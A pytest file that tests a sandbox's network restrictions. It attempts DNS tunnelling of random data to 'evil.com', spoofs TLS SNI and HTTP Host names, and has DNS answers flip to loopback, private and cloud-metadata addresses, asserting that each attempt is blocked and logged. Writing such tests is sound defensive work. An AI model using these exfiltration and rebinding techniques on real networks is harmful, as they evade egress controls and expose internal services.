"""A guest that lies about names, or is lied to: tunnels through DNS, spoofed names in first bytes, answers that lead inside or
change. The nameserver is the test's own, so it sees what would leave."""

import json
import random
import socket
import ssl
import string
import struct

import pytest

from servers import BOTH_FAMILIES, name_server, own_address, web_server

GOOD, EVIL = "good.example.com", "evil.example.com"


@pytest.fixture
def listed(msb):
    """A sandbox that may reach one name alone, on a server of the host's: (its name, the server's listener, what DNS was asked)."""
    address = own_address()
    with socket.create_server((address, 0)) as server, name_server({GOOD: address, EVIL: address}) as (nameserver, asked):
        server.settimeout(30)
        msb.ok("create", "busybox", "--name", "listed", "--dns-nameserver", nameserver, "--no-dns-rebind-protection",
               "--net-default", "deny", "--net-rule", f"allow@{GOOD}:tcp:{server.getsockname()[1]}")
        yield "listed", server, asked


def query(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">HHHHHH", 4711, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def gateway_of(msb, name):
    return msb.ok("exec", name, "--", "sh", "-c", "ip -4 route").split("default via ")[1].split()[0]


def test_a_list_of_names_leaves_no_tunnel_through_dns(msb, listed):
    name, _, asked = listed
    pick = random.Random(1)
    data = [".".join("".join(pick.choices(string.ascii_lowercase + string.digits, k=60)) for _ in range(3)) for _ in range(20)]
    tunnels = [f"{labels}.{end}" for labels in data for end in ("evil.com", GOOD)]
    script = "".join(f"nslookup -type={kind} {tunnel}{server}\n" for tunnel, kind, server in zip(
        tunnels, ("a", "aaaa", "txt", "mx", "cname") * 8, ("", " 8.8.8.8", "", " 1.1.1.1") * 10))
    msb.run("exec", name, "--", "sh", input=script)
    over_tcp = query(tunnels[0], 16)
    reply = msb.run("exec", name, "--", "nc", gateway_of(msb, name), "53", input=struct.pack(">H", len(over_tcp)) + over_tcp)
    assert reply.raw_out[2:4] == over_tcp[:2] and reply.raw_out[5] & 15 == 3, "NXDOMAIN, over TCP too"
    assert msb.run("exec", name, "--", "nslookup", GOOD).code == 0
    assert set(asked) == {GOOD}
    denied = (msb.home / "sandboxes" / name / "logs/network.log").read_text()
    assert all(tunnel in denied for tunnel in tunnels)


def client_hello(name):
    """The first bytes of a TLS client that wants to talk to this name."""
    sent = ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), sent, server_hostname=name)
    with pytest.raises(ssl.SSLWantReadError):
        client.do_handshake()
    return sent.read()


def received(server):
    connection, _ = server.accept()
    with connection:
        connection.settimeout(30)
        return b"".join(iter(lambda: connection.recv(65536), b""))


@pytest.mark.parametrize("hello, spoofed", [
    (client_hello(GOOD), client_hello(EVIL)),
    (f"GET / HTTP/1.1\r\nHost: {GOOD}\r\n\r\n".encode(), f"GET / HTTP/1.1\r\nHost: {EVIL}\r\n\r\n".encode())], ids=["sni", "host"])
def test_the_name_in_the_first_bytes_has_to_be_the_one_that_is_allowed(msb, listed, hello, spoofed):
    name, server, _ = listed
    address, port = server.getsockname()
    assert msb.run("exec", name, "--", "nc", address, port, input=hello).code != 0, "an address that was never resolved"
    msb.ok("exec", name, "--", "nslookup", GOOD)
    msb.run("exec", name, "--", "nc", address, port, input=spoofed)  # whose exit code says nothing of a reset
    client = msb.spawn("exec", name, "--", "nc", GOOD, port, stdin=-1)
    client.stdin.write(hello)
    client.stdin.close()
    # The first connection that the host ever saw.
    assert received(server) == hello
    client.wait(timeout=60)
    events = [json.loads(line) for line in (msb.home / "sandboxes" / name / "logs/network.log").read_text().splitlines()]
    assert [event.get("name") for event in events if event.get("port") == port] == [None, EVIL]


INSIDE = ["127.0.0.1", "0.0.0.0", "10.0.0.1", "172.16.0.1", "192.168.1.1", "169.254.169.254", "100.64.0.1", "::1", "fd00::1",
          "fe80::1", "::ffff:127.0.0.1", "64:ff9b::7f00:1", "2002:7f00:1::1", "fd00:ec2::254"]


def test_a_name_that_leads_inside_does_not_exist(msb):
    names = {f"inside-{n}.example.com": address for n, address in enumerate(INSIDE)}
    names["both.example.com"] = ["93.184.216.34", "10.0.0.1"]
    names["outside.example.com"] = ["93.184.216.34", "2606:2800:21f:cb07:6820:80da:af6b:8b2c"]
    with name_server(names) as (nameserver, asked):
        msb.ok("create", "busybox", "--name", "rebound", "--dns-nameserver", nameserver, *BOTH_FAMILIES)
        for name, address in names.items():
            out = msb.run("exec", "rebound", "--", "nslookup", "-type=" + ("aaaa" if ":" in address else "a"), name).out
            assert ("NXDOMAIN" in out) == (name != "outside.example.com"), out
        assert set(asked) == set(names), "the nameserver did say it"


def test_an_answer_that_changes_after_the_question_changes_nothing(msb):
    address, answers = own_address(), {}
    with web_server(address) as port, socket.create_server(("127.0.0.1", port)) as inner, name_server(answers) as (nameserver, asked):
        inner.setblocking(False)
        msb.ok("create", "busybox", "--name", "changing", "--dns-nameserver", nameserver, "--net-default", "deny",
               "--net-rule", f"allow@dns,allow@{address}", "--no-dns-rebind-protection")

        def get(where):
            return msb.run("exec", "changing", "--", "wget", "-qO-", f"http://{where}:{port}/")

        answers["flips.example.com"] = address
        assert get("flips.example.com").out == f"hello flips.example.com:{port}"
        # Between its question and its connection the answer becomes the host's loopback: what is dialled is what was judged.
        answers["flips.example.com"] = "127.0.0.1"
        assert get(address).out == f"hello {address}:{port}"
        # And an answer that leads to the host is judged as the host, whatever the name was before.
        answers["flips.example.com"] = gateway_of(msb, "changing")
        assert get("flips.example.com").code != 0
        assert asked.count("flips.example.com") >= 2
        with pytest.raises(BlockingIOError):
            inner.accept()
